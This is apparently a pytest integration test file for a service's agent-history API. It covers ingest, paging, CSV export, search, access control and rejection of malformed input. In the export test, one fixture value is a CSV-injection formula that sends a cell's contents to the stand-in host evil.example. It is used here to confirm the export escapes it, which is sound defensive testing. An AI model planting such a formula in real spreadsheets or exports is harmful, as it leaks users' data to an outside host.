"""The history API of the `sac` service: ingest with an agent's own token, pages,
CSV export, search, and what other users and bad input get."""

from __future__ import annotations

import base64
import csv
import io
import json
import threading
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta

import httpx
import pytest
from helpers import HubApi, run_in_terminal, running_agent

pytestmark = pytest.mark.stack

T0 = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)


@contextmanager
def scribe(stack: dict) -> Iterator[dict]:
    """A new user's running agent "scribe", their client and the agent's own sandbox
    token; the agent is deleted afterwards."""
    import asyncio

    user = f"hapi{uuid.uuid4().hex[:6]}"
    with running_agent(stack["admin"], user, "scribe", api_key="sk-unused") as client:
        token = asyncio.run(
            run_in_terminal(stack["url"], client.token, user, "scribe", "echo $SAC_AGENT_TOKEN")
        )
        assert token.startswith("sac-agent-")
        ingest = httpx.Client(
            base_url=stack["service_url"] + "api/",
            headers={"Authorization": f"Bearer {token}"},
            timeout=60,
        )
        yield {"user": user, "client": client, "ingest": ingest, "token": token}


@pytest.fixture(scope="module")
def agent(stack: dict) -> Iterator[dict]:
    """The module's agent (no test deletes it)."""
    with scribe(stack) as made:
        yield made


def _event(session: str, n: int, kind: str = "assistant", text: str = "") -> dict:
    message = {"role": kind, "content": text or f"message {n}"}
    return {
        "session_id": session,
        "uuid": f"{session}-{n}",
        "ts": (T0 + timedelta(seconds=n)).isoformat(),
        "kind": kind,
        "payload": {"type": kind, "uuid": f"{session}-{n}", "message": message},
    }


def _all_events(client: HubApi, user: str, params: dict | None = None) -> list[dict]:
    out, cursor = [], None
    while True:
        query = {"limit": 7, **(params or {}), **({"cursor": cursor} if cursor else {})}
        resp = client.sac("GET", f"users/{user}/agents/scribe/history/events", params=query)
        assert resp.status_code == 200, resp.text
        out += resp.json()["events"]
        cursor = resp.json()["next_cursor"]
        if not cursor:
            return out


def test_ingest_is_idempotent_and_summarised(agent: dict) -> None:
    session = f"s-{uuid.uuid4().hex[:8]}"
    batch = [_event(session, 1, "user", "  summarise the sales CSV  "), _event(session, 2)]
    batch += [_event(session, n) for n in range(3, 30)]
    first = agent["ingest"].post("history/ingest", json={"events": batch})
    assert first.status_code == 200, first.text
    assert first.json() == {"received": 29, "stored": 29}
    again = agent["ingest"].post("history/ingest", json={"events": batch + batch[:3]})
    assert again.json() == {"received": 32, "stored": 0}

    client, user = agent["client"], agent["user"]
    sessions = client.sac("GET", f"users/{user}/agents/scribe/history/sessions").json()
    mine = next(s for s in sessions["sessions"] if s["session_id"] == session)
    assert mine["first_prompt"] == "summarise the sales CSV"
    assert mine["events"] == 29 and mine["prompts"] == 1
    assert mine["first_ts"] == (T0 + timedelta(seconds=1)).isoformat()
    assert mine["last_ts"] == (T0 + timedelta(seconds=29)).isoformat()

    events = _all_events(client, user, {"session": session})
    assert [e["uuid"] for e in events] == [f"{session}-{n}" for n in range(1, 30)]
    newest = _all_events(client, user, {"session": session, "order": "desc"})
    assert [e["uuid"] for e in newest] == [e["uuid"] for e in reversed(events)]
    window = _all_events(
        client,
        user,
        {
            "session": session,
            "since": (T0 + timedelta(seconds=5)).isoformat(),
            "until": (T0 + timedelta(seconds=8)).isoformat(),
        },
    )
    assert [e["uuid"] for e in window] == [f"{session}-{n}" for n in (5, 6, 7)]


@pytest.mark.parametrize("order", ["asc", "desc"])
def test_pages_stay_correct_while_events_arrive(agent: dict, order: str) -> None:
    session = f"c-{uuid.uuid4().hex[:8]}"
    existing = [_event(session, n) for n in range(0, 400, 2)]  # even seconds
    assert agent["ingest"].post("history/ingest", json={"events": existing}).status_code == 200
    stop = threading.Event()
    inserted: list[int] = []
    answers: list[tuple[int, int, str]] = []  # (second, status, body): checked below

    def insert_odd() -> None:
        # Odd seconds land between the pages being read, before and after the cursor.
        # (An assert here would only end this thread: what it saw is checked after.)
        n = 1
        while not stop.is_set() and n < 400:
            resp = agent["ingest"].post("history/ingest", json={"events": [_event(session, n)]})
            answers.append((n, resp.status_code, resp.text))
            if resp.status_code != 200:
                return
            inserted.append(n)
            n += 2

    writer = threading.Thread(target=insert_odd)
    writer.start()
    try:
        seen = _all_events(agent["client"], agent["user"], {"session": session, "order": order})
    finally:
        stop.set()
        writer.join()
    assert inserted, "the writer ran while the pages were read"
    refused = [(n, status, body) for n, status, body in answers if status != 200]
    assert refused == [], "every insert was accepted"
    assert [json.loads(body) for _, _, body in answers] == [{"received": 1, "stored": 1}] * len(
        answers
    ), "every insert stored its new event"
    uuids = [e["uuid"] for e in seen]
    assert len(uuids) == len(set(uuids)), "no event twice"
    assert {e["uuid"] for e in existing} <= set(uuids), "no event that existed was skipped"
    times = [e["ts"] for e in seen]
    assert times == sorted(times, reverse=order == "desc")
    # Every odd event is there once writing has stopped.
    everything = _all_events(agent["client"], agent["user"], {"session": session})
    assert len(everything) == len(existing) + len(inserted)


def test_csv_export_and_search(agent: dict, admin: HubApi) -> None:
    session = f"x-{uuid.uuid4().hex[:8]}"
    odd = "100% of rows_with 'quotes' \\ and 漢字 and emoji 🧪"
    # A model's answer that a spreadsheet would run as a formula (CSV injection).
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    batch = [_event(session, 1, "user", odd), _event(session, 2, "assistant", "plain answer"),
             _event(session, 4, "assistant", formula)]  # fmt: skip
    agent["ingest"].post("history/ingest", json={"events": batch})
    client, user = agent["client"], agent["user"]

    resp = client.sac(
        "GET", f"users/{user}/agents/scribe/history/export.csv", params={"session": session}
    )
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(resp.text)))
    assert [r["uuid"] for r in rows] == [f"{session}-1", f"{session}-2", f"{session}-4"]
    assert rows[0]["text"] == odd and rows[0]["agent"] == "scribe" and rows[0]["owner"] == user
    assert rows[2]["text"] == "'" + formula  # opens as text, not as a formula

    # Search: LIKE metacharacters and quotes are literal; the owner finds their own text.
    for q in ("100% of rows_with", "'quotes' \\", "漢字", "🧪"):
        found = client.sac("GET", "history/search", params={"q": q}).json()["events"]
        assert [e["uuid"] for e in found] == [f"{session}-1"], q
    assert client.sac("GET", "history/search", params={"q": "0%_"}).json()["events"] == []
    # Text inside string values is found, key names are not.
    marker = f"zq{uuid.uuid4().hex[:10]}"
    keyed = _event(session, 3)
    keyed["payload"][f"{marker}-key"] = f"{marker}-value"
    agent["ingest"].post("history/ingest", json={"events": [keyed]})
    found = client.sac("GET", "history/search", params={"q": f"{marker.upper()}-VALUE"}).json()
    assert [e["uuid"] for e in found["events"]] == [f"{session}-3"]
    assert client.sac("GET", "history/search", params={"q": f"{marker}-key"}).json() == {
        "events": [],
        "next_cursor": None,
    }
    # Admins search everyone and export the result.
    found = admin.sac("GET", "history/search", params={"q": odd, "user": user}).json()
    assert [e["user"] for e in found["events"]] == [user]
    exported = admin.sac("GET", "history/export.csv", params={"q": "plain answer", "user": user})
    assert [r["uuid"] for r in csv.DictReader(io.StringIO(exported.text))] == [f"{session}-2"]
    # The owner's own export of a search: the same filters, parsed back from CSV.
    mine = client.sac("GET", "history/export.csv", params={"q": "漢字"})
    (row,) = csv.DictReader(io.StringIO(mine.text))
    assert row["text"] == odd and json.loads(row["payload"]) == batch[0]["payload"]


def test_other_users_cannot_read_or_export(agent: dict, new_user) -> None:
    user = agent["user"]
    _, stranger = new_user("nosy")
    for path in ("sessions", "events", "export.csv"):
        resp = stranger.sac("GET", f"users/{user}/agents/scribe/history/{path}")
        assert resp.status_code == 404, (path, resp.text)
        assert resp.json()["error"] == "not_found"
    assert stranger.sac("GET", "history/search", params={"user": user}).status_code == 404
    # Their own search never reaches another user's events.
    everything = stranger.sac("GET", "history/search", params={"q": "message"}).json()
    assert everything["events"] == []


def test_bad_ingest_is_refused_and_stores_nothing(agent: dict, stack: dict) -> None:
    session = f"bad-{uuid.uuid4().hex[:8]}"
    good = _event(session, 1)
    url = stack["service_url"] + "api/history/ingest"
    assert httpx.post(url, json={"events": [good]}).status_code == 401
    forged = httpx.post(
        url, json={"events": [good]}, headers={"Authorization": "Bearer sac-agent-forged"}
    )
    assert forged.status_code == 401 and forged.json()["error"] == "unauthorized"
    cases = [
        ({"events": [good, {**good, "uuid": "u2", "ts": "yesterday"}]}, "events[1].ts"),
        ({"events": [good, {**good, "uuid": "u3", "payload": "text"}]}, "events[1].payload"),
        ({"events": [{**good, "session_id": ""}]}, "events[0].session_id"),
        ({"events": [good] * 1001}, "events"),
        ({"events": [good], "agent": "someone-else"}, "agent"),
    ]
    for body, field in cases:
        resp = agent["ingest"].post("history/ingest", json=body)
        assert resp.status_code == 400, resp.text
        assert resp.json()["field"] == field
    assert agent["ingest"].post("history/ingest", content=b"{nope").status_code == 400
    huge = {"events": [{**good, "payload": {"x": "y" * (17 * 1024 * 1024)}}]}
    assert agent["ingest"].post("history/ingest", json=huge).status_code == 413
    events = agent["client"].sac(
        "GET", f"users/{agent['user']}/agents/scribe/history/events", params={"session": session}
    )
    assert events.json()["events"] == []
    # Above the 1 MiB of other JSON bodies, a batch from the agent's own token is fine.
    large = {**_event(f"large-{session}", 1), "payload": {"x": "y" * (3 * 1024 * 1024)}}
    resp = agent["ingest"].post("history/ingest", json={"events": [large]})
    assert resp.status_code == 200 and resp.json()["stored"] == 1, resp.text

    # NUL characters (which PostgreSQL cannot store) are dropped, not a 500.
    nul = {**good, "payload": {"type": "assistant", "message": {"content": "a\x00b"}}}
    resp = agent["ingest"].post("history/ingest", json={"events": [nul]})
    assert resp.status_code == 200, resp.text
    stored = agent["client"].sac(
        "GET", f"users/{agent['user']}/agents/scribe/history/events", params={"session": session}
    )
    assert stored.json()["events"][0]["payload"]["message"]["content"] == "ab"


def test_odd_input_is_stored_cleanly_or_refused(agent: dict) -> None:
    session = f"odd-{uuid.uuid4().hex[:8]}"
    good = json.dumps(_event(session, 1))
    user, client = agent["user"], agent["client"]

    def post(raw: str) -> httpx.Response:
        return agent["ingest"].post(
            "history/ingest",
            content=raw.encode("utf-8", "surrogatepass"),
            headers={"Content-Type": "application/json"},
        )

    # A lone UTF-16 surrogate (JavaScript writes them when a string is cut mid-emoji)
    # cannot be stored as such: it becomes U+FFFD; the rest of the entry is kept.
    lone = good.replace('"message 1"', '"cut \\ud83d here"')
    assert post(f'{{"events": [{lone}]}}').json() == {"received": 1, "stored": 1}
    (event,) = _all_events(client, user, {"session": session})
    assert event["payload"]["message"]["content"] == "cut \ufffd here"

    refused = {
        "NaN": good.replace('"message 1"', "NaN"),
        "1e999": good.replace('"message 1"', "1e999"),
        "deep": good.replace('"message 1"', "[" * 5000 + "]" * 5000),
        "year 10000": good.replace("2026-03-01", "9999-12-31").replace("+00:00", "-14:00"),
        "year 1": good.replace("2026-03-01", "0001-01-01"),
        "surrogate key": good.replace(f'"uuid": "{session}-1", "ts"', '"uuid": "\\udc00", "ts"'),
    }
    for what, raw in refused.items():
        resp = post(f'{{"events": [{raw}]}}')
        assert resp.status_code == 400, (what, resp.text)
        assert resp.json()["error"] in ("invalid_json", "invalid_field"), what
    assert len(_all_events(client, user, {"session": session})) == 1

    # A time without an offset is taken as UTC.
    naive = {**_event(session, 2), "ts": "2026-03-01T12:00:02"}
    assert agent["ingest"].post("history/ingest", json={"events": [naive]}).status_code == 200
    assert _all_events(client, user, {"session": session})[-1]["ts"] == "2026-03-01T12:00:02+00:00"


def test_unknown_agents_and_bad_queries(agent: dict) -> None:
    user, client = agent["user"], agent["client"]
    for path in ("sessions", "events", "export.csv"):
        resp = client.sac("GET", f"users/{user}/agents/never-made/history/{path}")
        assert resp.status_code == 404 and resp.json()["error"] == "not_found", path
    base = f"users/{user}/agents/scribe/history/"
    forged = base64.urlsafe_b64encode(b'["2026-01-01T00:00:00+00:00", "a\\u0000", "b"]').decode()
    for path, params, field in [
        ("events", {"cursor": "not-a-cursor"}, "cursor"),
        ("events", {"cursor": forged}, "cursor"),
        ("events", {"limit": "1001"}, "limit"),
        ("events", {"limit": "-1"}, "limit"),
        ("events", {"limit": "²"}, "limit"),
        ("events", {"order": "sideways"}, "order"),
        ("events", {"since": "last tuesday"}, "since"),
        ("sessions", {"cursor": forged}, "cursor"),
        ("export.csv", {"until": "soon"}, "until"),
    ]:
        resp = client.sac("GET", base + path, params=params)
        assert resp.status_code == 400, (path, params, resp.text)
        assert resp.json()["field"] == field
    resp = client.sac("GET", "history/search", params={"q": "x" * 201})
    assert resp.status_code == 400 and resp.json()["field"] == "q"

    # A time typed into a URL with its "+" unencoded (which arrives as a space) works.
    session = f"url-{uuid.uuid4().hex[:8]}"
    agent["ingest"].post("history/ingest", json={"events": [_event(session, n) for n in (1, 2)]})
    since = (T0 + timedelta(seconds=2)).isoformat()
    assert "+00:00" in since
    resp = client.sac("GET", base + f"events?session={session}&since={since}")
    assert [e["uuid"] for e in resp.json()["events"]] == [f"{session}-2"]
    # RFC 3339 (the document's date-time) allows a lower-case "t" and "z" (refused
    # as "expected an ISO 8601 time" before, though the document took it).
    lower = (T0 + timedelta(seconds=2)).strftime("%Y-%m-%dt%H:%M:%Sz")
    resp = client.sac("GET", base + "events", params={"session": session, "since": lower})
    assert [e["uuid"] for e in resp.json()["events"]] == [f"{session}-2"], resp.text


def test_history_outlives_the_agent(stack: dict, admin: HubApi) -> None:
    # Its own agent, since it deletes it (the module's agent stays for the others).
    with scribe(stack) as agent:
        user, client = agent["user"], agent["client"]
        session = f"gone-{uuid.uuid4().hex[:8]}"
        sent = agent["ingest"].post(
            "history/ingest", json={"events": [_event(session, 1, "user", "hi")]}
        )
        assert sent.status_code == 200 and sent.json()["stored"] == 1, sent.text
        assert client.sac("DELETE", f"users/{user}/agents/scribe").status_code == 204
        # The deleted agent's token no longer ingests anything...
        late = agent["ingest"].post("history/ingest", json={"events": [_event(session, 2)]})
        assert late.status_code == 401
        # ...but what it sent stays readable, by its owner and by admins.
        for reader in (client, admin):
            sessions = reader.sac("GET", f"users/{user}/agents/scribe/history/sessions").json()
            assert session in [s["session_id"] for s in sessions["sessions"]]
            events = reader.sac(
                "GET", f"users/{user}/agents/scribe/history/events", params={"session": session}
            )
            assert [e["uuid"] for e in events.json()["events"]] == [f"{session}-1"]
